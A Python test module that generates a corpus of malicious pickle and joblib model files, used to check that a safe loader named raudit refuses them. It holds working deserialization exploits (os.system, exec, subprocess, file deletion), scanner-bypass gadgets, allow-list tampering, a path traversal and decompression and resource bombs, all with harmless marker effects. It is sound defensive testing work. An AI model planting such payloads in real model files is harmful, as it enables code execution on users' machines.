"""A corpus of malicious model files, built on the fly from public knowledge (no binaries are committed).

Each attack is one small function that writes one file into a folder and
returns its path; its docstring names the public source or the class of
weakness it represents. ``tests/test_attack_corpus.py`` opens every file with
raudit (API and CLI) and checks it is refused with an error naming what was
refused, and that its effect never happens: the payloads create ``PWNED``,
overwrite or delete ``sentinel``/``sentinel_dir``, or try to hang or exhaust
the process. Attacks marked ``live`` demonstrably work against a plain
``pickle``/``joblib``/``torch.jit``/skops load (checked in a subprocess by the
same test file), so the corpus is not a list of strawmen.

Sources: the pickle documentation's warning; picklescan and modelscan test
payloads and advisories (e.g. modelscan#89, ``__builtins__`` reachable from a
module; picklescan's bypasses through allowed-package re-exports and
``getattr`` chains); fickling's analysis of ``REDUCE``/``BUILD``/``INST``/``OBJ``
gadgets; scipy's ``rv_generic.__setstate__`` exec; skorch's nested unpickling;
numpy's ``_ufunc_reconstruct`` and ``allow_pickle`` loaders; decompression and
"billion laughs" bombs; TorchScript ``__setstate__``/``torch.from_file``; ONNX
external-data path traversal.
"""

from __future__ import annotations

import bz2
import io
import lzma
import os
import pickle
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Tuple  # noqa: UP035 - TorchScript annotations

import numpy as np

# ---------------------------------------------------------------------------------------------- a tiny pickle assembler

PROTO = b"\x80"
MARK, STOP, TUPLE, REDUCE, BUILD, POP = b"(", b".", b"t", b"R", b"b", b"0"
EMPTY_DICT, EMPTY_TUPLE, EMPTY_LIST, SETITEMS, APPENDS = b"}", b")", b"]", b"u", b"e"
STACK_GLOBAL, NEWOBJ, NEWOBJ_EX, MEMOIZE = b"\x93", b"\x81", b"\x92", b"\x94"


def s(text: str) -> bytes:
    """A str (BINUNICODE)."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    """A bytes object (BINBYTES)."""
    return b"B" + struct.pack("<I", len(data)) + data


def i(n: int) -> bytes:
    """A small int (BININT)."""
    return b"J" + struct.pack("<i", n)


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-3): ``c module\\nname\\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+)."""
    return s(module) + s(name) + STACK_GLOBAL


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def dct(**items: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(s(k) + v for k, v in items.items()) + SETITEMS


def prog(body: bytes, proto: int = 4) -> bytes:
    """A whole pickle."""
    return PROTO + bytes([proto]) + body + STOP


class Reduce:
    """An object that pickles as ``func(*args)`` (how payloads are usually made)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


class ReduceState:
    """An object that pickles as ``func(*args)`` followed by BUILD with ``state``."""

    def __init__(self, func: Any, args: tuple[Any, ...], state: Any) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args, self.state


def ops(obj: Any) -> bytes:
    """The opcodes that build ``obj`` (protocol 2: no frames), to embed in a hand-written pickle."""
    return pickle.dumps(obj, protocol=2)[2:-1]


def get(k: int) -> bytes:
    return b"j" + struct.pack("<I", k)


def put(k: int) -> bytes:
    return b"r" + struct.pack("<I", k)


# ---------------------------------------------------------------------------------------------- the corpus

@dataclass
class Target:
    """Where an attack's effects would land."""

    dir: Path

    @property
    def marker(self) -> Path:
        return self.dir / "PWNED"

    @property
    def sentinel(self) -> Path:
        return self.dir / "sentinel"

    @property
    def sentinel_dir(self) -> Path:
        return self.dir / "sentinel_dir"

    def touch(self) -> str:
        return f"touch {self.marker}"

    def py(self) -> str:
        return f"open({str(self.marker)!r}, 'w').close()"

    def write(self, name: str, data: bytes) -> Path:
        path = self.dir / name
        path.write_bytes(data)
        return path


@dataclass(frozen=True)
class Attack:
    """One malicious file: how to build it and what the refusal must name."""

    name: str
    build: Callable[[Target], Path]
    expect: str
    doc: str
    live: bool = False
    limits: tuple[str, ...] = ()
    slow: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(expect: str, *, live: bool = False, limits: tuple[str, ...] = (), slow: bool = False) -> Callable[[Any], Any]:
    """Register an attack; ``expect`` must appear in raudit's refusal."""
    def register(fn: Callable[[Target], Path]) -> Callable[[Target], Path]:
        ATTACKS[fn.__name__] = Attack(fn.__name__, fn, expect, (fn.__doc__ or "").strip(), live, limits, slow)
        return fn
    return register


# --- 1. the classics, every protocol -------------------------------------------------------------------

for _proto in range(6):
    def _os_system(t: Target, proto: int = _proto) -> Path:
        return t.write(f"os_system_p{proto}.pkl", pickle.dumps(Reduce(os.system, t.touch()), protocol=proto))
    _os_system.__name__ = f"os_system_protocol_{_proto}"
    _os_system.__doc__ = f"os.system via REDUCE, pickle protocol {_proto} (the pickle documentation's own warning)."
    attack("posix.system", live=True)(_os_system)


@attack("builtins.exec", live=True)
def builtins_exec(t: Target) -> Path:
    """exec() of Python source (picklescan's canonical payload)."""
    return t.write("exec.pkl", pickle.dumps(Reduce(exec, t.py())))


@attack("builtins.eval", live=True)
def builtins_eval(t: Target) -> Path:
    """eval() of an expression."""
    return t.write("eval.pkl", pickle.dumps(Reduce(eval, t.py())))


@attack("subprocess.Popen", live=True)
def subprocess_popen(t: Target) -> Path:
    """subprocess.Popen of a command (a class, so a REDUCE on a type)."""
    return t.write("popen.pkl", pickle.dumps(Reduce(subprocess.Popen, ["touch", str(t.marker)])))


@attack("subprocess.check_output", live=True)
def subprocess_check_output(t: Target) -> Path:
    """subprocess.check_output, as modelscan's test payloads use."""
    return t.write("check_output.pkl", pickle.dumps(Reduce(subprocess.check_output, ["touch", str(t.marker)])))


@attack("io.open", live=True)
def open_truncates_a_file(t: Target) -> Path:
    """open(path, 'w'): truncating a file needs no code execution at all."""
    return t.write("open.pkl", pickle.dumps(Reduce(open, str(t.sentinel), "w")))


@attack("posix.remove", live=True)
def os_remove(t: Target) -> Path:
    """os.remove of a file the attacker names."""
    return t.write("remove.pkl", pickle.dumps(Reduce(os.remove, str(t.sentinel))))


@attack("shutil.rmtree", live=True)
def shutil_rmtree(t: Target) -> Path:
    """shutil.rmtree of a folder."""
    import shutil

    return t.write("rmtree.pkl", pickle.dumps(Reduce(shutil.rmtree, str(t.sentinel_dir))))


@attack("pickle.loads", live=True)
def nested_pickle_loads(t: Target) -> Path:
    """pickle.loads of an inner payload (a second, unrestricted unpickler)."""
    inner = pickle.dumps(Reduce(os.system, t.touch()))
    return t.write("nested.pkl", pickle.dumps(Reduce(pickle.loads, inner)))


@attack("builtins.__import__", live=True)
def import_then_getattr(t: Target) -> Path:
    """getattr(__import__('os'), 'system')(cmd): the import + getattr chain of picklescan bypass reports."""
    body = call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), s("os")), s("system"))
    return t.write("import_getattr.pkl", prog(call(body, s(t.touch())), 2))


@attack("importlib.import_module", live=True)
def importlib_import_module(t: Target) -> Path:
    """importlib.import_module('os') then getattr."""
    body = call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), s("os")), s("system"))
    return t.write("importlib.pkl", prog(call(body, s(t.touch())), 2))


@attack("marshal.loads")
def marshal_function(t: Target) -> Path:
    """types.FunctionType(marshal.loads(code), {})(): code objects smuggled as bytes (fickling's example)."""
    code = compile(t.py(), "<x>", "exec")
    import marshal

    func = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), b(marshal.dumps(code))), EMPTY_DICT)
    return t.write("marshal.pkl", prog(call(func), 2))


# --- 2. opcode paths: INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD, GLOBAL vs STACK_GLOBAL, memo, Python 2 names ------------

@attack("os.system", live=True)
def inst_opcode(t: Target) -> Path:
    """Protocol 0 INST: ``(S'cmd' i os system`` (fickling lists INST/OBJ as call opcodes)."""
    return t.write("inst.pkl", b"(S'" + t.touch().encode() + b"'\nios\nsystem\n.")


@attack("os.system", live=True)
def obj_opcode(t: Target) -> Path:
    """Protocol 1 OBJ: the callable and its argument after a MARK."""
    return t.write("obj.pkl", b"(cos\nsystem\nS'" + t.touch().encode() + b"'\no.")


@attack("builtins.eval", live=True)
def python2_builtin_name(t: Target) -> Path:
    """Protocol 2 with the Python 2 name ``__builtin__.eval``, which pickle maps to builtins.eval."""
    return t.write("py2.pkl", prog(call(glob("__builtin__", "eval"), s(t.py())), 2))


@attack("subprocess.call", live=True)
def stack_global_from_memo(t: Target) -> Path:
    """STACK_GLOBAL whose strings come from the memo (BINGET), so a naive static scan cannot read them."""
    body = s("subprocess") + MEMOIZE + s("call") + MEMOIZE + POP + POP + b"h\x00h\x01" + STACK_GLOBAL
    return t.write("memo_global.pkl", prog(call(body, MARK + s("touch") + s(str(t.marker)) + b"l"), 4))


@attack("skorch.classifier.NeuralNetClassifier", live=True)
def skorch_setstate_unpickles_nested_bytes(t: Target) -> Path:
    """NEWOBJ of skorch's NeuralNetClassifier; its __setstate__ unpickles nested bytes with a plain unpickler."""
    inner = pickle.dumps({"x": Reduce(os.system, t.touch())})
    state = dct(device=s("cpu"), __cuda_dependent_attributes__=b(inner))
    body = sglob("skorch.classifier", "NeuralNetClassifier") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return t.write("skorch.pkl", prog(body, 4))


def _evil_template(t: Target) -> str:
    return f"import os\nos.system({t.touch()!r})\n"


@attack("norm_gen", live=True)
def scipy_template_newobj(t: Target) -> Path:
    """NEWOBJ + BUILD of a scipy.stats distribution: rv_generic.__setstate__ execs _parse_arg_template."""
    state = dct(_parse_arg_template=s(_evil_template(t)))
    body = sglob("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return t.write("scipy_newobj.pkl", prog(body, 4))


@attack("norm_gen", live=True)
def scipy_template_newobj_ex(t: Target) -> Path:
    """The same through NEWOBJ_EX (class, args, kwargs)."""
    body = (sglob("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX
            + dct(_parse_arg_template=s(_evil_template(t))) + BUILD)
    return t.write("scipy_newobj_ex.pkl", prog(body, 4))


@attack("norm_gen", live=True)
def scipy_template_protocol_0(t: Target) -> Path:
    """The same with protocol 0: copyreg._reconstructor then BUILD."""
    from scipy.stats._continuous_distns import norm_gen

    dist = norm_gen(name="norm")
    dist._parse_arg_template = _evil_template(t)
    return t.write("scipy_p0.pkl", pickle.dumps(dist, protocol=0))


def _search(kind: str) -> Any:
    from scipy import stats
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import RandomizedSearchCV

    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(40, 2)), np.tile([0, 1], 20)
    dist = stats.loguniform(0.1, 10) if kind == "continuous" else stats.randint(1, 5)
    space = {"C": dist} if kind == "continuous" else {"max_iter": dist}
    return RandomizedSearchCV(LogisticRegression(), space, n_iter=2, cv=2, random_state=0).fit(X, y)


@attack("reciprocal_gen", live=True)
def scipy_template_in_fitted_randomized_search(t: Target) -> Path:
    """A real fitted RandomizedSearchCV whose loguniform distribution carries an exec payload (joblib, compressed)."""
    import joblib

    search = _search("continuous")
    search.param_distributions["C"].dist._parse_arg_template = _evil_template(t)
    path = t.dir / "search.joblib"
    joblib.dump(search, path, compress=3)
    return path


@attack("randint_gen", live=True)
def scipy_discrete_template_in_fitted_randomized_search(t: Target) -> Path:
    """The same with a discrete distribution (randint), plain joblib."""
    import joblib

    search = _search("discrete")
    search.param_distributions["max_iter"].dist._parse_arg_template = _evil_template(t)
    path = t.dir / "search_discrete.joblib"
    joblib.dump(search, path)
    return path


@attack("norm_gen", live=True)
def scipy_shapes_injection(t: Target) -> Path:
    """A distribution whose constructor parameter ``shapes`` carries code; scipy validates it only in __init__."""
    evil = _evil_template(t)
    state = dct(_ctor_param=dct(shapes=s(f"a): pass\n{evil}#"), name=s("norm")), _parse_arg_template=s(evil))
    body = sglob("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return t.write("scipy_shapes.pkl", prog(body, 4))


# --- 3. names that look innocent: re-exports and module attributes of allowed packages (picklescan bypasses) --------

@attack("sklearn.utils._testing.check_output", live=True)
def reexport_check_output(t: Target) -> Path:
    """A scikit-learn testing helper that *is* subprocess.check_output."""
    return t.write("reexport.pkl", prog(call(sglob("sklearn.utils._testing", "check_output"),
                                             MARK + s("touch") + s(str(t.marker)) + b"l"), 4))


@attack("scipy._lib._tmpdirs.rmtree", live=True)
def reexport_rmtree(t: Target) -> Path:
    """A SciPy tmpdir helper module that re-exports shutil.rmtree."""
    return t.write("reexport_rmtree.pkl", prog(call(sglob("scipy._lib._tmpdirs", "rmtree"), s(str(t.sentinel_dir))), 4))


@attack("numpy.lib._datasource._open", live=True)
def reexport_open(t: Target) -> Path:
    """numpy's datasource module keeps builtins.open as _open."""
    return t.write("reexport_open.pkl", prog(call(sglob("numpy.lib._datasource", "_open"), s(str(t.sentinel)), s("w")), 4))


@attack("sklearn.datasets._lfw.remove", live=True)
def reexport_remove(t: Target) -> Path:
    """A dataset loader module that imports os.remove by name."""
    return t.write("reexport_remove.pkl", prog(call(sglob("sklearn.datasets._lfw", "remove"), s(str(t.sentinel))), 4))


@attack("joblib._memmapping_reducer.loads", live=True)
def reexport_pickle_loads(t: Target) -> Path:
    """joblib's memmapping module re-exports pickle.loads."""
    inner = pickle.dumps(Reduce(os.system, t.touch()))
    return t.write("reexport_loads.pkl", prog(call(sglob("joblib._memmapping_reducer", "loads"), b(inner)), 4))


@attack("sklearn.utils.discovery.import_module", live=True)
def reexport_import_module(t: Target) -> Path:
    """A discovery helper that re-exports importlib.import_module, then getattr."""
    body = call(sglob("builtins", "getattr"), call(sglob("sklearn.utils.discovery", "import_module"), s("os")), s("system"))
    return t.write("reexport_import.pkl", prog(call(body, s(t.touch())), 4))


@attack("sklearn._config.os.system", live=True)
def module_attribute_dotted(t: Target) -> Path:
    """Protocol 4 resolves dotted names: ``sklearn._config`` + ``os.system`` reaches os through a module attribute."""
    return t.write("dotted.pkl", prog(call(sglob("sklearn._config", "os.system"), s(t.touch())), 4))


@attack("sklearn._config.os", live=True)
def module_object_then_getattr(t: Target) -> Path:
    """A module object (os) as an attribute of an allowed module, then getattr."""
    body = call(sglob("builtins", "getattr"), sglob("sklearn._config", "os"), s("system"))
    return t.write("module_object.pkl", prog(call(body, s(t.touch())), 4))


@attack("__builtins__", live=True)
def builtins_through_cython_module(t: Target) -> Path:
    """modelscan#89: ``__builtins__`` of an allowed (Cython) module reaches eval."""
    return t.write("dunder_builtins.pkl", prog(call(sglob("sklearn._loss._loss", "__builtins__.eval"), s(t.py())), 4))


@attack("numpy.__builtins__", live=True)
def builtins_dict_get(t: Target) -> Path:
    """``numpy.__builtins__`` is the builtins dict: ``.get('exec')`` then call it."""
    body = call(sglob("numpy", "__builtins__.get"), s("exec"))
    return t.write("builtins_get.pkl", prog(call(body, s(t.py())), 4))


# --- 4. gadgets: getattr-likes, functools/operator, numpy reconstructors ----------------------------------

@attack("getattr", live=True)
def getattr_on_allowed_array_writes_a_file(t: Target) -> Path:
    """getattr(<ndarray>, 'tofile')(path): a method of an allowed object that writes a file."""
    body = call(call(glob("builtins", "getattr"), ops(np.frombuffer(b"AAAAAAAA", dtype=np.uint8).copy()), s("tofile")),
                s(str(t.sentinel)))
    return t.write("getattr_tofile.pkl", prog(body, 2))


@attack("_operator.methodcaller", live=True)
def operator_methodcaller(t: Target) -> Path:
    """operator.methodcaller('system', cmd)(os): a getattr-like gadget."""
    body = call(call(sglob("_operator", "methodcaller"), s("system"), s(t.touch())), sglob("sklearn._config", "os"))
    return t.write("methodcaller.pkl", prog(body, 4))


@attack("_operator.attrgetter", live=True)
def operator_attrgetter(t: Target) -> Path:
    """operator.attrgetter('system')(os)(cmd)."""
    getter = call(sglob("_operator", "attrgetter"), s("system"))
    return t.write("attrgetter.pkl", prog(call(call(getter, sglob("sklearn._config", "os")), s(t.touch())), 4))


@attack("functools.reduce", live=True)
def functools_reduce_getattr(t: Target) -> Path:
    """functools.reduce(getattr, ['system'], os)(cmd)."""
    fn = call(sglob("functools", "reduce"), sglob("builtins", "getattr"), MARK + s("system") + b"l", sglob("sklearn._config", "os"))
    return t.write("reduce.pkl", prog(call(fn, s(t.touch())), 4))


@attack("posix.system", live=True)
def functools_partial_of_system(t: Target) -> Path:
    """functools.partial(os.system, cmd)(): partial is allowed only around reviewed reference functions."""
    from functools import partial

    return t.write("partial.pkl", pickle.dumps(Reduce(partial(os.system, t.touch()))))


@attack("functools.partial", live=True)
def functools_partial_of_allowed_reconstructor(t: Target) -> Path:
    """functools.partial(getattr)(os, 'system')(cmd): partial may wrap reviewed REFERENCE functions only."""
    fn = call(sglob("functools", "partial"), sglob("builtins", "getattr"))
    return t.write("partial_getattr.pkl", prog(call(call(fn, sglob("sklearn._config", "os"), s("system")), s(t.touch())), 4))


@attack("_ufunc_reconstruct", live=True)
def numpy_ufunc_reconstruct_any_name(t: Target) -> Path:
    """numpy.core._ufunc_reconstruct(module, name) imports any module and returns any attribute."""
    return t.write("ufunc.pkl", prog(call(call(glob("numpy.core", "_ufunc_reconstruct"), s("posix"), s("system")),
                                          s(t.touch())), 2))


@attack("numpy.add")
def numpy_ufunc_called_while_loading(t: Target) -> Path:
    """A real ufunc, referenced by name, then called by REDUCE: ufuncs are references, never callables at load."""
    return t.write("ufunc_call.pkl", prog(call(sglob("numpy", "add"), i(1), i(2)), 4))


@attack("NpzFile", live=True)
def numpy_npzfile_allow_pickle(t: Target) -> Path:
    """numpy NpzFile with allow_pickle=True unpickles an object array from an in-memory .npz (then __getitem__)."""
    inner = io.BytesIO()
    np.save(inner, np.array([Reduce(os.system, t.touch())], dtype=object), allow_pickle=True)
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("x.npy", inner.getvalue())
    fid = call(sglob("_io", "BytesIO"), b(zbuf.getvalue()))
    npz = call(sglob("numpy.lib._npyio_impl", "NpzFile"), fid, b"\x89", b"\x88")
    return t.write("npz.pkl", prog(call(sglob("numpy.lib._npyio_impl", "NpzFile.__getitem__"), npz, s("x")), 4))


@attack("numpy.lib.format.read_array", live=True)
def numpy_read_array_allow_pickle(t: Target) -> Path:
    """numpy.lib.format.read_array(fp, allow_pickle=True): a reader that unpickles object arrays."""
    inner = io.BytesIO()
    np.save(inner, np.array([Reduce(os.system, t.touch())], dtype=object), allow_pickle=True)
    return t.write("read_array.pkl", prog(call(sglob("numpy.lib.format", "read_array"),
                                               call(sglob("_io", "BytesIO"), b(inner.getvalue())), b"\x88"), 4))


@attack("copyreg._reconstructor")
def copyreg_reconstructor_foreign_base(t: Target) -> Path:
    """copyreg._reconstructor(cls, base, state) with a base that is not a builtin type runs base.__init__(state)."""
    body = call(sglob("copyreg", "_reconstructor"), sglob("sklearn.linear_model._logistic", "LogisticRegression"),
                sglob("sklearn.pipeline", "Pipeline"), EMPTY_LIST)
    return t.write("reconstructor.pkl", prog(body, 4))


@attack("copyreg.add_extension", live=True)
def extension_registry(t: Target) -> Path:
    """copyreg.add_extension registers posix.system under a code, then EXT1 loads it by number."""
    register = call(sglob("copyreg", "add_extension"), s("posix"), s("system"), i(241)) + POP
    return t.write("ext.pkl", prog(register + call(b"\x82\xf1", s(t.touch())), 4))


@attack("persistent id")
def persistent_id(t: Target) -> Path:
    """BINPERSID: an id the loader's persistent_load resolves (torch's loader once resolved storages this way)."""
    return t.write("persid.pkl", prog(s("anything") + b"Q", 4))


@attack("out-of-band")
def out_of_band_buffer(t: Target) -> Path:
    """NEXT_BUFFER: protocol 5 out-of-band data raudit never supplies."""
    return t.write("oob.pkl", prog(b"\x97", 5))


# --- 5. the policy itself ---------------------------------------------------------------------------------

@attack("raudit.load.pickle.unpickler")
def rebind_raudit_module_global(t: Target) -> Path:
    """setattr(raudit.load.pickle.unpickler, 'DEFAULT_LIMITS', None): switch the loader off for the rest of the process."""
    body = call(sglob("builtins", "setattr"), sglob("raudit.load.pickle", "unpickler"), s("DEFAULT_LIMITS"), b"N")
    return t.write("rebind.pkl", prog(body + POP + call(sglob("posix", "system"), s(t.touch())), 4))


@attack("raudit.load.pickle.allowlist._BY_NAME")
def mutate_the_allow_list(t: Target) -> Path:
    """Add posix.system to raudit's own table through dict.__setitem__ (an unbound method named by a dotted global)."""
    entry = call(sglob("raudit.load.pickle.allowlist", "Entry"), s("posix"), s("system"), s("function"), s("x"))
    table = sglob("raudit.load.pickle.allowlist", "_BY_NAME")
    setitem = call(sglob("builtins", "dict.__setitem__"), table, tup(s("posix"), s("system")), entry)
    return t.write("mutate.pkl", prog(setitem + POP + call(sglob("posix", "system"), s(t.touch())), 4))


@attack("_compat_pickle.NAME_MAPPING", live=True)
def remap_python2_names(t: Target) -> Path:
    """Rewrite pickle's Python 2 name table so that ``copy_reg._reconstructor`` means posix.system."""
    remap = call(glob("_operator", "setitem"), glob("_compat_pickle", "NAME_MAPPING"), tup(s("copy_reg"), s("_reconstructor")),
                 tup(s("posix"), s("system")))
    return t.write("remap.pkl", prog(remap + POP + call(glob("copy_reg", "_reconstructor"), s(t.touch())), 2))


@attack("sklearn._config.sys.modules")
def replace_raudit_module_in_sys_modules(t: Target) -> Path:
    """Replace ``sys.modules['raudit.load.pickle.allowlist']`` (reached through a module attribute) with another module."""
    body = call(sglob("_operator", "setitem"), sglob("sklearn._config", "sys.modules"), s("raudit.load.pickle.allowlist"),
                sglob("sklearn._config", "os"))
    return t.write("sysmodules.pkl", prog(body, 4))


# --- 6. nested in real fitted models, after joblib's raw array bytes; every compression -------------------------

def _fitted_with_payload(t: Target) -> Any:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 3))
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, (X[:, 0] > 0).astype(int))
    model[-1].calibration_ = Reduce(subprocess.call, ["touch", str(t.marker)])
    return model


for _compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
    def _nested(t: Target, compress: Any = _compress) -> Path:
        import joblib

        name = "plain" if compress == 0 else compress[0]
        path = t.dir / f"nested_{name}.joblib"
        joblib.dump(_fitted_with_payload(t), path, compress=compress)
        return path
    _label = "plain" if _compress == 0 else _compress[0]
    _nested.__name__ = f"nested_in_fitted_pipeline_{_label}"
    _nested.__doc__ = f"A payload inside a fitted pipeline, after joblib's raw array bytes ({_label} joblib file)."
    attack("subprocess.call", live=True)(_nested)


@attack("posix.system", live=True)
def joblib_object_array(t: Target) -> Path:
    """A numpy object array, which joblib writes as a nested pickle stream after its wrapper."""
    import joblib

    path = t.dir / "object_array.joblib"
    joblib.dump({"coef": np.ones(3), "names": np.array(["a", Reduce(os.system, t.touch())], dtype=object)}, path)
    return path


@attack("NDArrayWrapper")
def joblib_legacy_ndarray_wrapper(t: Target) -> Path:
    """joblib < 0.10's NDArrayWrapper names a companion file that np.load opens (path traversal, allow_pickle)."""
    state = dct(filename=s("../../etc/passwd"), subclass=sglob("numpy", "ndarray"), allow_mmap=b"\x89")
    body = sglob("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return t.write("legacy.pkl", prog(body, 4))


@attack("lz4")
def lz4_compressed(t: Target) -> Path:
    """An lz4 frame: a compressor raudit does not stream, refused rather than inflated."""
    return t.write("model.joblib", b"\x04\x22\x4d\x18" + bytes(64))


# --- 7. resources: decompression bombs, opcode/memo bombs, huge integers, allocations, hashing, blow-up ----------

def _bomb_units(total: int = 16 << 30, unit: int = 16 << 20) -> tuple[bytes, bytes, int]:
    """A pickle that is 16 GiB of BINBYTES8 chunks (then POP) once inflated: (header, unit, repeats)."""
    body = bytes(unit - 10)
    return PROTO + b"\x04", b"\x8e" + struct.pack("<Q", len(body)) + body + POP, total // unit


def _deflate_bomb(t: Target, name: str, wbits: int) -> Path:
    head, unit, n = _bomb_units()
    c = zlib.compressobj(9, zlib.DEFLATED, wbits)
    start = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)  # after a full flush, the same input gives the same block
    return t.write(name, start + block * n)  # no trailer: the stream is never read to its end


@attack("decompressed bytes", limits=("bytes=256MiB",))
def zlib_bomb(t: Target) -> Path:
    """A joblib zlib file that inflates to 16 GiB (deflate's ~1,000:1 limit makes it 16 MB)."""
    return _deflate_bomb(t, "zlib_bomb.joblib", 15)


@attack("decompressed bytes", limits=("bytes=256MiB",))
def gzip_bomb(t: Target) -> Path:
    """A gzip file that inflates to 16 GiB."""
    return _deflate_bomb(t, "gzip_bomb.joblib", 31)


@attack("decompressed bytes", limits=("bytes=256MiB",))
def bz2_bomb(t: Target) -> Path:
    """A bz2 file of 125 KB that inflates to 16 GiB (the issue's 12 KB → 16 GiB class): concatenated bz2 streams."""
    head, unit, n = _bomb_units(unit=8 << 20)
    return t.write("bz2_bomb.joblib", bz2.compress(head) + bz2.compress(unit) * n)


@attack("decompressed bytes", limits=("bytes=256MiB",))
def xz_bomb(t: Target) -> Path:
    """An xz file that inflates to 16 GiB: concatenated xz streams."""
    head, unit, n = _bomb_units()
    return t.write("xz_bomb.joblib", lzma.compress(head, format=lzma.FORMAT_XZ) + lzma.compress(unit, format=lzma.FORMAT_XZ, preset=1) * n)


@attack("decompressed bytes", limits=("bytes=8MiB",))
def lzma_alone_bomb(t: Target) -> Path:
    """A legacy .lzma stream (single stream only) of 32 MiB zeros, against a lowered cap of 8 MiB."""
    head, unit, n = _bomb_units(total=32 << 20, unit=4 << 20)
    return t.write("lzma_bomb.joblib", lzma.compress(head + unit * n, format=lzma.FORMAT_ALONE, preset=1))


@attack("bytes")
def declared_length_beyond_the_file(t: Target) -> Path:
    """BINBYTES8 declaring 16 GiB in a 20-byte file: refused before anything is allocated."""
    return t.write("declared.pkl", PROTO + b"\x04" + b"\x8e" + struct.pack("<Q", 16 << 30) + bytes(8))


@attack("bytes")
def joblib_array_of_16_gib(t: Target) -> Path:
    """A joblib array header for 2**31 float64 (16 GiB) followed by 8 bytes of data."""
    from joblib.numpy_pickle import NumpyArrayWrapper

    wrapper = NumpyArrayWrapper(np.ndarray, (2**31,), "C", np.dtype("float64"))
    return t.write("huge_array.joblib", pickle.dumps(wrapper, protocol=2)[:-1] + b"\x00" + bytes(8) + STOP)


@attack("opcodes", limits=("opcodes=1000000",))
def opcode_bomb(t: Target) -> Path:
    """Two million cheap instructions (NONE, POP), against a lowered cap of one million."""
    return t.write("opcodes.pkl", PROTO + b"\x02" + b"N0" * 2_000_000 + b"N.")


@attack("opcodes", slow=True)
def opcode_bomb_default_cap(t: Target) -> Path:
    """A gzip stream of ~100 million cheap instructions against the default cap (bounded time, not a hang)."""
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = c.compress(PROTO + b"\x02") + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(b"N0" * (1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    return t.write("opcodes_default.joblib", start + block * 100)


@attack("memo entries", limits=("memo=100000",))
def memo_bomb(t: Target) -> Path:
    """LONG_BINPUT of one object under 200,000 different indices, against a lowered memo cap."""
    return t.write("memo.pkl", PROTO + b"\x04" + b"N" + b"".join(b"r" + struct.pack("<I", k) for k in range(200_000)) + b".")


@attack("integer")
def huge_long4(t: Target) -> Path:
    """LONG4 of 10 MB: an integer nobody's model holds, the seed of arithmetic bombs."""
    return t.write("long4.pkl", PROTO + b"\x02" + b"\x8b" + struct.pack("<i", 10 << 20) + b"\x01" * (10 << 20) + b".")


@attack("integer")
def huge_long_text(t: Target) -> Path:
    """Protocol 0 LONG with 100,000 decimal digits."""
    return t.write("long_text.pkl", b"L" + b"9" * 100_000 + b"L\n.")


@attack("builtins.pow")
def arithmetic_pow_hang(t: Target) -> Path:
    """pow(10**100000, 10**100000): minutes of CPU from two small integers (the issue's arithmetic hang)."""
    big = pickle.dumps(10**1000, protocol=2)[2:-1]
    return t.write("pow.pkl", prog(call(glob("builtins", "pow"), big, big), 2))


@attack("_operator.pow")
def arithmetic_operator_pow(t: Target) -> Path:
    """The same through the operator module."""
    big = pickle.dumps(10**1000, protocol=2)[2:-1]
    return t.write("operator_pow.pkl", prog(call(glob("_operator", "pow"), big, big), 2))


@attack("never a size")
def bytearray_allocation(t: Target) -> Path:
    """bytearray(10**12): an allowed constructor asked for a terabyte."""
    return t.write("bytearray.pkl", prog(call(glob("builtins", "bytearray"), pickle.dumps(10**12, 2)[2:-1]), 2))


@attack("never a size")
def bytes_allocation(t: Target) -> Path:
    """bytes(10**11) through the Python 2 name __builtin__.bytes."""
    return t.write("bytes.pkl", prog(call(glob("__builtin__", "bytes"), pickle.dumps(10**11, 2)[2:-1]), 2))


@attack("shape (0,)")
def numpy_reconstruct_huge_shape(t: Target) -> Path:
    """numpy _reconstruct(ndarray, (10**12,), 'b'): an allocation NumPy never writes."""
    body = call(sglob("numpy._core.multiarray", "_reconstruct"), sglob("numpy", "ndarray"),
                tup(pickle.dumps(10**12, 2)[2:-1]), b(b"b"))
    return t.write("reconstruct.pkl", prog(body, 4))


@attack("hash bomb")
def hash_bomb(t: Target) -> Path:
    """A dict key t100 with t(k+1) = (tk, tk): 2 KB of pickle, 2**100 steps to hash."""
